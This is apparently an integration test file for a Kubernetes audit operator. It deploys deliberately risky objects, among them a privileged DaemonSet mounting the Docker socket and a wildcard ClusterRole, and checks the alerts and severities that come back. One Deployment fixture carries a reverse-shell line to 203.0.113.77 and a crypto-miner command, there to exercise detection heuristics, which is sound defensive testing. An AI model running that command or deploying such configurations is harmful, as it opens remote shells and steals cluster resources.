import assert from 'node:assert/strict';
import path from 'node:path';
import { repoRoot } from '../../hack/controlplane/binaries.js';
import type { ControlPlane } from '../../hack/controlplane/index.js';
import { type OperatorProcess, startOperator } from '../../hack/operator-process.js';
import { create, createNamespace } from '../../hack/samples.js';
import type { AuditAlert } from '../../src/api/generated/audit-alert.js';
import type { KubeObject } from '../../src/api/kube-object.js';
import type { KubeClient } from '../../src/kube/client.js';
import { controlPlane } from './setup.js';
import { adminClient, alertsFor, installCrds, kubectlOk, suffix, waitForAlerts } from './support/cluster.js';

/** The one alert of `detection` for the object, once the operator has raised it. */
async function alertOf(
  c: KubeClient,
  op: OperatorProcess,
  obj: KubeObject,
  detection: string,
): Promise<AuditAlert> {
  await waitForAlerts(c, obj.metadata.uid as string);
  await op.waitIdle();
  const alerts = (await alertsFor(c, obj.metadata.uid as string)).filter(
    (a) => a.spec.detection.name === detection,
  );
  assert.equal(alerts.length, 1, `one ${detection} alert for ${obj.kind} ${obj.metadata.name}`);
  return alerts[0] as AuditAlert;
}

const ids = (a: AuditAlert): string[] => (a.spec.risks ?? []).map((r) => r.id);

describe('risks: the analysis raises risks and severity on real alerts', function () {
  this.timeout(180_000);
  const id = suffix();
  const ns = `risks-${id}`;
  const clusterRole = `risky-wildcard-${id}`;
  let cp: ControlPlane;
  let c: KubeClient;
  let op: OperatorProcess;

  before(async () => {
    cp = controlPlane();
    c = adminClient(cp);
    await installCrds(cp);
    await kubectlOk(cp, ['apply', '-k', path.join(repoRoot(), 'manifests/detections')]);
    op = await startOperator(cp.kubeconfigPath);
    await op.waitReady();
    await createNamespace(c, ns, { 'pod-security.kubernetes.io/enforce': 'privileged' });
  });

  after(async () => {
    if (op?.running()) await op.stop();
    if (cp) await kubectlOk(cp, ['delete', 'clusterrole', clusterRole, '--ignore-not-found']);
    c?.close();
  });

  it('a privileged hostPath DaemonSet: Critical, with its Pod Security risks', async () => {
    const ds = await create(c, `/apis/apps/v1/namespaces/${ns}/daemonsets`, {
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: 'node-agent' },
      spec: {
        selector: { matchLabels: { app: 'node-agent' } },
        template: {
          metadata: { labels: { app: 'node-agent' } },
          spec: {
            hostPID: true,
            containers: [
              {
                name: 'agent',
                image: 'registry.example.com/agent:1.0',
                env: [{ name: 'TOKEN', value: 'never-in-an-alert' }],
                securityContext: { privileged: true },
                volumeMounts: [{ name: 'docker', mountPath: '/var/run/docker.sock' }],
              },
            ],
            volumes: [{ name: 'docker', hostPath: { path: '/var/run/docker.sock', type: 'Socket' } }],
          },
        },
      },
    });
    const a = await alertOf(c, op, ds, 'workload-created');
    for (const want of ['workload.privileged', 'workload.hostpath-runtime-socket', 'workload.host-pid'])
      assert.ok(ids(a).includes(want), `${want} in ${ids(a)}`);
    assert.equal(a.spec.severity, 'Critical', 'raised from the detection’s Low');
    assert.equal(a.metadata.labels?.['tripline.dev/severity'], 'Critical');
    const privileged = a.spec.risks?.find((r) => r.id === 'workload.privileged');
    assert.match(privileged?.message ?? '', /container agent/);
    assert.match(privileged?.reference ?? '', /pod-security-standards/);
    assert.doesNotMatch(JSON.stringify(a), /never-in-an-alert/);
    const critical = await kubectlOk(cp, [
      'get',
      'aal',
      '--field-selector',
      'spec.severity=Critical',
      '-o',
      'jsonpath={.items[*].metadata.name}',
    ]);
    assert.ok(
      critical.split(/\s+/).includes(a.metadata.name as string),
      'kubectl finds it by the raised severity',
    );
  });

  it('a wildcard ClusterRole: Critical, cluster-admin equivalent', async () => {
    const role = await create(c, '/apis/rbac.authorization.k8s.io/v1/clusterroles', {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRole',
      metadata: { name: clusterRole },
      rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
    });
    const a = await alertOf(c, op, role, 'clusterrole-created');
    for (const want of [
      'clusterrole.cluster-admin-equivalent',
      'clusterrole.secrets-read',
      'clusterrole.escalate-bind',
      'clusterrole.impersonate',
    ])
      assert.ok(ids(a).includes(want), `${want} in ${ids(a)}`);
    assert.equal(a.spec.severity, 'Critical', 'raised from the detection’s High');
    assert.equal(a.metadata.labels?.['tripline.dev/severity'], 'Critical');
  });

  it('a snippet-annotated Ingress: High, with the CVE reference', async () => {
    const ing = await create(c, `/apis/networking.k8s.io/v1/namespaces/${ns}/ingresses`, {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'Ingress',
      metadata: {
        name: 'snippet',
        annotations: {
          'nginx.ingress.kubernetes.io/configuration-snippet': 'more_set_headers "X-Debug: 1";',
        },
      },
      spec: {
        ingressClassName: 'nginx',
        tls: [{ hosts: [`snippet-${id}.example.com`], secretName: 'snippet-tls' }],
        rules: [
          {
            host: `snippet-${id}.example.com`,
            http: {
              paths: [
                {
                  path: '/',
                  pathType: 'Prefix',
                  backend: { service: { name: 'web', port: { number: 80 } } },
                },
              ],
            },
          },
        ],
      },
    });
    const a = await alertOf(c, op, ing, 'ingress-created');
    assert.ok(ids(a).includes('ingress.snippet-annotation'), `${ids(a)}`);
    assert.ok(!ids(a).includes('ingress.no-tls'), 'TLS covers the host');
    const snippet = a.spec.risks?.find((r) => r.id === 'ingress.snippet-annotation');
    assert.match(snippet?.reference ?? '', /CVE-2021-25742/);
    assert.equal(a.spec.severity, 'High', 'raised from the detection’s Medium');
    assert.equal(a.metadata.labels?.['tripline.dev/severity'], 'High');
  });

  it('a Namespace with enforce=privileged carries that risk', async () => {
    const n = (await c.request<KubeObject>('GET', `/api/v1/namespaces/${ns}`)) as KubeObject;
    const a = await alertOf(c, op, n, 'namespace-created');
    assert.ok(ids(a).includes('namespace.pss-enforce-privileged'), `${ids(a)}`);
    assert.equal(a.spec.severity, 'High');
  });

  it('a Role in a namespace: role-created raises its escalation paths, scoped to the namespace', async () => {
    const role = await create(c, `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles`, {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'Role',
      metadata: { name: 'build-bot' },
      rules: [
        { apiGroups: [''], resources: ['pods'], verbs: ['create'] },
        { apiGroups: [''], resources: ['pods/ephemeralcontainers'], verbs: ['patch'] },
        { apiGroups: [''], resources: ['events'], verbs: ['delete'] },
        { apiGroups: ['rbac.authorization.k8s.io'], resources: ['rolebindings'], verbs: ['create'] },
      ],
    });
    const a = await alertOf(c, op, role, 'role-created');
    assert.deepEqual(ids(a).sort(), [
      'clusterrole.events-delete',
      'clusterrole.pods-ephemeral-containers',
      'clusterrole.rbac-write',
      'clusterrole.workload-create',
    ]);
    for (const r of a.spec.risks ?? []) assert.match(r.message, new RegExp(`in namespace ${ns}:`), r.id);
    assert.equal(a.spec.severity, 'High', 'raised from the detection’s Low by pods/ephemeralcontainers');
  });

  it('a Deployment whose container mines and calls back: the heuristics name it, never the command', async () => {
    const d = await create(c, `/apis/apps/v1/namespaces/${ns}/deployments`, {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'metrics-cache' },
      spec: {
        selector: { matchLabels: { app: 'metrics-cache' } },
        template: {
          metadata: { labels: { app: 'metrics-cache' } },
          spec: {
            containers: [
              {
                name: 'cache',
                image: 'registry.example.com/cache:1.0',
                command: ['sh', '-c'],
                args: [
                  'bash -i >& /dev/tcp/203.0.113.77/443 0>&1 & ./kcache -o stratum+tcp://pool-never-in-an-alert:3333',
                ],
              },
            ],
          },
        },
      },
    });
    const a = await alertOf(c, op, d, 'workload-created');
    for (const want of ['heuristic.reverse-shell', 'heuristic.miner'])
      assert.ok(ids(a).includes(want), `${want} in ${ids(a)}`);
    assert.equal(a.spec.severity, 'Critical', 'raised from the detection’s Low by the reverse shell');
    const risks = JSON.stringify(a.spec.risks);
    assert.doesNotMatch(risks, /pool-never-in-an-alert|203\.0\.113\.77/);
  });
});
